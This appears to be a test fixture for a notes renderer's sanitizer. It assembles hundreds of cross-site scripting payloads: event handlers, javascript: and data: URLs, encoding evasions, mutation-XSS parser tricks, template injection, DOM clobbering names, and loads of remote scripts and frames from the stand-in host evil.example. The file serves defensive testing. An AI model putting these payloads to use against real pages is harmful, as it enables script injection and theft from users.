// What somebody would write into notes so that it runs in the page of a reader. Each calls
// hit(), which a page under test does not have unless the test gives it, or asks for
// something of https://evil.example.
const evil = 'https://evil.example';

// HTML as a note may hold it.
const handlers = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerover',
  'onbeforetoggle', 'onscroll', 'onwheel', 'oncopy', 'onbegin', 'onauxclick', 'onfocusin'];
const tags = ['img src=x', 'svg', 'body', 'details open', 'input autofocus', 'video src=x', 'audio src=x', 'a href=#', 'p tabindex=0',
  'marquee', 'select autofocus', 'math', 'table', 'x', 'iframe', 'object data=x', 'embed src=x', 'style', 'button', 'dialog open'];
const scripts = [
  '<script>hit()</script>', '<SCRIPT SRC=//evil.example/a.js></SCRIPT>', '<script/x>hit()</script >', '<scr<script>ipt>hit()</scr</script>ipt>',
  '<script\n>hit()</script\n>', '<script type=module>hit()</script>', '<svg><script>hit()</script></svg>', '<svg><script href=data:,hit()></script></svg>',
  '<math><script>hit()</script></math>', '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  '<template><script>hit()</script></template>', '<template shadowrootmode=open><script>hit()</script></template>',
  '<script>hit()', '<script<hit()', '</script><script>hit()</script>', '<script\0>hit()</script>', '\u2028<script>hit()</script>',
  '<!--><script>hit()</script>-->', '<!--><img src=x onerror=hit()>-->', '<!-- --!><img src=x onerror=hit()>', '<![CDATA[<script>hit()</script>]]>',
  '<?xml version="1.0"?><script>hit()</script>', '<!DOCTYPE x [<!ENTITY e "<script>hit()</script>">]>&e;', '<%00script>hit()</script>',
  '<x><script>hit()</script></x>', '<title><script>hit()</script></title>', '<textarea><script>hit()</script></textarea>',
  '<plaintext><script>hit()</script>', '<xmp><script>hit()</script></xmp>', '<noembed><script>hit()</script></noembed>',
];
const addresses = [
  'javascript:hit()', 'JaVaScRiPt:hit()', 'java\tscript:hit()', 'java&Tab;script:hit()', 'java&NewLine;script:hit()', '&#106;avascript:hit()',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;hit()', ' javascript:hit()', '\u0001javascript:hit()', 'javascript&colon;hit()',
  'vbscript:hit()', 'data:text/html,<script>parent.hit()</script>', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hit()"/>', 'blob:hit()', 'filesystem:hit()', 'view-source:javascript:hit()',
  'feed:javascript:hit()', 'jar:javascript:hit()', 'javascript://%0ahit()', 'javascript:/*--></title></style></textarea></script><svg onload=hit()>*/hit()',
  'JAVASCRIPT&#58;hit()', '\\u006aavascript:hit()', 'javascript\u0000:hit()', 'javascript:\u2028hit()',
];
const breaking = [
  '"><img src=x onerror=hit()>', '\'><img src=x onerror=hit()>', '" onmouseover="hit()" x="', '\' onmouseover=\'hit()\' x=\'', '` onmouseover=`hit()',
  '</title><script>hit()</script>', '</style><script>hit()</script>', '</textarea><script>hit()</script>', '--><script>hit()</script><!--',
  ']]><script>hit()</script>', '</script><script>hit()</script>', '{{constructor.constructor("hit()")()}}', '${hit()}', '<%= hit() %>', '{{{hit}}}', '{{#hit}}{{/hit}}',
  '&lt;script&gt;hit()&lt;/script&gt;', '&#60;script&#62;hit()&#60;/script&#62;', '&amp;lt;img src=x onerror=hit()&amp;gt;', '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=hit()\\x3e', '"});hit();//', '\');hit();//', '\\\');hit();//', '*/hit();/*', '\u2028hit()//', '<img src=x onerror=hit()//', '<img/src=x/onerror=hit()/>',
  '<svg/onload=hit()>', '<<img src=x onerror=hit()>', '<a href="javascript:hit()">x</a>', '\uFE64img src=x onerror=hit()\uFE65',
];
const loading = [
  `<img src="${evil}/pixel" loading=eager lowsrc="${evil}/l" dynsrc="${evil}/d" srcset="${evil}/s 1x">`, `<link rel=stylesheet href="${evil}/a.css">`,
  `<link rel=preload as=script href="${evil}/p.js">`, `<link rel=dns-prefetch href="${evil}">`, `<link rel=modulepreload href="${evil}/m.js">`,
  `<style>@import "${evil}/i.css";</style>`, `<p style="background: url(${evil}/b)">x</p>`, `<table background="${evil}/t"><tr><td>x</table>`,
  `<video poster="${evil}/v"><source src="${evil}/s.mp4"><track src="${evil}/t.vtt"></video>`, `<audio src="${evil}/a.mp3" autoplay></audio>`,
  `<iframe src="${evil}/f"></iframe>`, `<iframe srcdoc="<script>parent.hit()</script>"></iframe>`, `<object data="${evil}/o"></object>`, `<embed src="${evil}/e">`,
  `<meta http-equiv=refresh content="0;url=${evil}/r">`, '<meta http-equiv=refresh content="0;url=javascript:hit()">', `<base href="${evil}/">`, `<form action="${evil}/f"><button>x</button></form>`,
  `<a href="#" ping="${evil}/ping">x</a>`, `<svg><image href="${evil}/si"/><use href="${evil}/u#x"/></svg>`, `<svg><animate attributeName=href values="javascript:hit()"/></svg>`,
  '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></foreignObject></svg>', '<svg><a xlink:href="javascript:hit()"><text y=9>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=hit()></svg>', `<math><maction actiontype=statusline xlink:href="javascript:hit()">x</maction></math>`,
  '<math href="javascript:hit()"><mi>x</mi></math>', `<frameset><frame src="${evil}/fr"></frameset>`, '<isindex action=javascript:hit() type=image>', `<bgsound src="${evil}/bg">`,
  `<input type=image src="${evil}/in" formaction=javascript:hit()>`, '<button formaction=javascript:hit()>x</button>', `<portal src="${evil}/po"></portal>`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<svg></p><style><a id="</style><img src=1 onerror=hit()>">', '<svg><style>&lt;img src=x onerror=hit()&gt;</style></svg>', '<select><style></select><img src=x onerror=hit()></style>',
  '<a href="x" style="position:fixed;inset:0">cover</a>', '<p style="-moz-binding: url(x)">x</p>', '<xss style="animation-name:x" onanimationend=hit()>',
];
// Names of what scripts use: an element with one of them as its id or name would stand in its place.
const clobbering = ['HandbookSearch', 'Handbook', 'hb', 'document', 'currentScript', 'getElementById', 'querySelector', 'body', 'location', 'self', 'top', 'attributes', 'innerHTML', 'search-dialog', 'search-input', 'main', 'theme', 'navigator', 'cookie', 'onload', 'hit', 'constructor', '__proto__'];

export const raw = [...scripts, ...loading,
  ...tags.flatMap((tag, i) => handlers.filter((_, k) => (i + k) % 3 === 0).map((on) => `<${tag} ${on}=hit()>`)),
  ...addresses.flatMap((a) => [`<a href="${a}">x</a>`, `<img src="${a}">`]),
  ...clobbering.flatMap((name) => [`<a id="${name}" href="x">a</a>`, `<img name="${name}" alt="">`, `<form id="${name}"><input name="${name}"></form>`])];

// Markdown.
export const markdown = [
  ...addresses.flatMap((a) => [`[x](<${a}>)`, `![x](<${a}>)`, `[x]: <${a}>\n\n[x]`, `<${a}>`]),
  ...breaking.flatMap((b) => [`# ${b}`, `[x](y "${b}")`, `![${b}](y)`, `[[${b}|${b}]]`, `\`\`\`${b}\nx\n\`\`\``, `| ${b.replaceAll('|', '')} |\n|---|\n| x |`,
    `> [!NOTE]\n> ${b}`, `\`${b}\``, `x[^${b}]\n\n[^${b}]: ${b}`, `## x {#${b}}`, `$${b}$`]),
  ...clobbering.flatMap((name) => [`## x {#${name}}`, `## ${name}`]),
  '$\\href{javascript:hit()}{x}$', '$\\class{x" onmouseover="hit()}{y}$', '$$\\text{</math><img src=x onerror=hit()>}$$', '$\\unicode{x3c}img src=x onerror=hit()>$',
  '```math\n\\style{background:url(https://evil.example)}{x}\n```', '```mermaid\ngraph TD; a-->b; click a "javascript:hit()"\n```',
  '```html title="x\\" onmouseover=\\"hit()"\n<script>hit()</script>\n```', '```c title="</figcaption><script>hit()</script>"\nint x;\n```',
];

// Diagrams: text, addresses, tooltips, HTML-like labels.
export const diagrams = breaking.slice(0, 12).map((b) => `digraph { a [label=${JSON.stringify(b)} tooltip=${JSON.stringify(b)} URL="javascript:hit()" id=${JSON.stringify(b)} class=${JSON.stringify(b)}] }`)
  .concat('digraph { a [label=<<b>x</b><img src="https://evil.example/i"/>>] }', 'digraph { a [image="https://evil.example/j.png"] }',
    'digraph { stylesheet="https://evil.example/s.css" a }', 'digraph { a [label=<<table href="javascript:hit()"><tr><td>x</td></tr></table>>] }',
    'digraph { a [href="javascript:hit()" target="_top" edgetooltip="</svg><script>hit()</script>"] }', 'digraph { label="</svg><script>hit()</script>" a }');

// For fields that are one line of text.
export const lines = [...breaking, ...scripts.slice(0, 12), ...addresses.slice(0, 10), '<img src=x onerror=hit()>', '<svg onload=hit()>'].map((text) => text.replaceAll('\0', '').replaceAll('\n', ' '));
export { addresses, breaking };
